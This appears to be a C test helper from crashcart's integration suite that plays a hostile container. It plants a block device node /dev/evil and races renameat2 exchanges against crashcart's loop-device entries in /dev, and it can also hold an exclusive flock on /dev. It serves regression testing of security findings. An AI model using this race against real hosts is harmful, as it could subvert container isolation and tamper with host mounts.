/* cchostile: what a hostile container runs against crashcart, for the
 * integration tests of the findings (tests-target.sh). Static, started
 * inside a microcontainer with nsenter; it writes what it saw to REPORT
 * (a file in the container's root) and "ready" to READY once it is set.
 *
 *   cchostile swap READY REPORT
 *       Makes its own block node /dev/evil (b 7:255), then watches /dev with
 *       inotify and, between events, spins renameat2(RENAME_EXCHANGE) of
 *       /dev/evil with every /dev/.crashcart-loop* entry it can see: the
 *       legacy mount path's race. Every device node other than its own that
 *       appears in /dev is written to REPORT ("node NAME"), every exchange
 *       that succeeded too ("swapped NAME"). Runs until killed.
 *   cchostile flock READY
 *       Holds flock(LOCK_EX) on /dev until killed (SIGTERM releases it).
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/file.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <unistd.h>

static void mark(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
	if (fd < 0)
		return;
	(void)!write(fd, text, strlen(text));
	(void)close(fd);
}

static void report_nodes(int dev, const char *report, char seen[][64], int *nseen)
{
	DIR *d = fdopendir(dup(dev));
	struct dirent *e;
	if (!d)
		return;
	rewinddir(d);
	while ((e = readdir(d))) {
		struct stat st;
		if (strcmp(e->d_name, "evil") == 0 || strcmp(e->d_name, "null") == 0 ||
		    strcmp(e->d_name, "zero") == 0 || strcmp(e->d_name, "urandom") == 0 ||
		    strcmp(e->d_name, "tty") == 0)
			continue;
		if (fstatat(dev, e->d_name, &st, AT_SYMLINK_NOFOLLOW) < 0)
			continue;
		if (!S_ISBLK(st.st_mode) && !S_ISCHR(st.st_mode))
			continue;
		int i;
		for (i = 0; i < *nseen; i++)
			if (strcmp(seen[i], e->d_name) == 0)
				break;
		if (i < *nseen || *nseen >= 64)
			continue;
		snprintf(seen[(*nseen)++], 64, "%.60s", e->d_name);
		char line[128];
		snprintf(line, sizeof(line), "node %.100s\n", e->d_name);
		mark(report, line);
	}
	closedir(d);
}

static int swap(const char *ready, const char *report)
{
	static char seen[64][64];
	int nseen = 0;
	int dev = open("/dev", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (dev < 0)
		return perror("open /dev"), 1;
	(void)unlinkat(dev, "evil", 0);
	if (mknodat(dev, "evil", S_IFBLK | 0600, makedev(7, 255)) < 0)
		return perror("mknod /dev/evil"), 1;
	int in = inotify_init1(IN_NONBLOCK | IN_CLOEXEC);
	if (in < 0 || inotify_add_watch(in, "/dev", IN_CREATE | IN_MOVED_TO | IN_ATTRIB) < 0)
		return perror("inotify"), 1;
	mark(ready, "ready\n");
	for (;;) {
		char buf[4096];
		while (read(in, buf, sizeof(buf)) > 0)
			;
		report_nodes(dev, report, seen, &nseen);
		DIR *d = fdopendir(dup(dev));
		struct dirent *e;
		if (!d)
			continue;
		while ((e = readdir(d))) {
			if (strncmp(e->d_name, ".crashcart-loop", 15) != 0)
				continue;
			if (renameat2(dev, "evil", dev, e->d_name, RENAME_EXCHANGE) == 0) {
				char line[128];
				snprintf(line, sizeof(line), "swapped %.100s\n", e->d_name);
				mark(report, line);
			}
		}
		closedir(d);
		struct pollfd p = { .fd = in, .events = POLLIN };
		(void)poll(&p, 1, 1);
	}
}

static void on_term(int sig)
{
	(void)sig;
	_exit(0);
}

static int hold_lock(const char *ready)
{
	int dev = open("/dev", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (dev < 0)
		return perror("open /dev"), 1;
	if (flock(dev, LOCK_EX) < 0)
		return perror("flock /dev"), 1;
	signal(SIGTERM, on_term);
	mark(ready, "ready\n");
	for (;;)
		pause();
}

int main(int argc, char **argv)
{
	if (argc == 4 && strcmp(argv[1], "swap") == 0)
		return swap(argv[2], argv[3]);
	if (argc == 3 && strcmp(argv[1], "flock") == 0)
		return hold_lock(argv[2]);
	fprintf(stderr, "usage: cchostile swap READY REPORT | flock READY\n");
	return 2;
}
